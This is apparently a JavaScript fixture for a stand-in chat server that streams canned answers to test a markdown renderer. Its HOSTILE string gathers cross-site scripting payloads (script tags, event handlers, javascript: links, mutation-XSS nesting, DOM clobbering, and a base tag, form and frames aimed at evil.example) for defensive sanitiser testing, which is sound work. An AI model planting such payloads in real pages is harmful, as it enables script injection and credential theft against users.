// What the stand-in server says, by what it is asked.

export const MARKDOWN = `# Level **one**

A paragraph with *emphasis*, \`code\`, ~~strike~~, a [link](https://example.com/a?b=c) and H<sub>2</sub>O.

- [x] done
- [ ] to do
  1. nested

> A quote.

| Model | Tokens/s | Note |
|:--|--:|:-:|
| small | 1,200 | fast |
| large | 95 | slow |

\`\`\`rust
/// Adds.
fn add(a: u32, b: u32) -> u32 {
    let sum = a + b; // no overflow
    println!("{sum} {}", 42);
    sum
}
\`\`\`

Inline $e^{i\\pi} + 1 = 0$ and \\(\\sqrt{2}\\); it costs $5 or $6.

$$
\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}
\\qquad
\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}
$$

![a cat](https://example.com/cat.png)
`;

/** Everything that must not run, load, submit or imitate. Each would set window.hacked or call a foreign site. */
export const HOSTILE = `<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>) [vb](vbscript:x)
[local](/status) ![pixel](https://evil.example/pixel.png) ![x](javascript:window.hacked=5)

<svg onload="window.hacked = 6"><animate onbegin="window.hacked=7" attributeName=x></svg>

<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">

<style>body { display: none } @import url(https://evil.example/x.css);</style>

<form action="https://evil.example"><input name=key><button formaction="javascript:window.hacked=8">Log in</button></form>

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 9"></style></mglyph></table></mtext></math>

<a href="&#106;avascript:window.hacked=10" class="icon-button primary" style="position:fixed;inset:0">all over</a>

\`\`\`html"><img src=x onerror=window.hacked=11>
<img src=x onerror="window.hacked = 12">
\`\`\`

$\\href{javascript:window.hacked=13}{x}$ $\\includegraphics{https://evil.example/y.png}$ $<img src=x onerror=window.hacked=14>$

<details open ontoggle="window.hacked=15"><summary onclick="window.hacked=16">more</summary>text</details>

<div id="app" class="banner">clobbered</div> <a name="body">x</a> <base href="https://evil.example/">

| <img src=x onerror=window.hacked=17> | b |
|--|--|
| <script>window.hacked=18</script> | <b onmouseover="window.hacked=19">b</b> |

The end of it.
`;

const LONG = Array.from({ length: 400 }, (_, i) => `word${i} ${i % 12 === 11 ? "\n\n" : ""}`);

/** Pieces of an answer: text, or an object with other fields. */
export function answerTo(text, number) {
  if (text.includes("markdown")) return pieces(MARKDOWN, 40);
  if (text.includes("hostile")) return pieces(HOSTILE, 30);
  if (text.includes("nested")) return { parts: [`${">".repeat(5000)} deep`] };
  if (text.includes("slow")) return { delayMs: 15, parts: LONG };
  if (text.includes("reason")) {
    return { delayMs: 5, parts: [{ reasoning_content: "First **this**, " }, { reasoning_content: "then that." }, "The answer is 4."] };
  }
  if (text.includes("json")) return pieces('{"name": "Ada", "age": 36}', 7);
  if (text.includes("break off")) return { parts: ["Half an ans"], ending: "break" };
  if (text.includes("fail late")) return { parts: ["Half an ans"], ending: "error" };
  if (text.includes("references")) {
    return { delayMs: 200, parts: ["Read [the manual][m] and [m].\n\nIt is long.\n\n", "[m]: https://example.com/", "manual\n"] };
  }
  if (text.includes("cut")) return { parts: ["It goes on and"], finish: "length" };
  return { parts: ["Answer ", `number ${number} `, `to “${text.slice(0, 40)}”.`] };
}

function pieces(text, size) {
  const parts = [];
  for (let i = 0; i < text.length; i += size) parts.push(text.slice(i, i + size));
  return { delayMs: 2, parts };
}
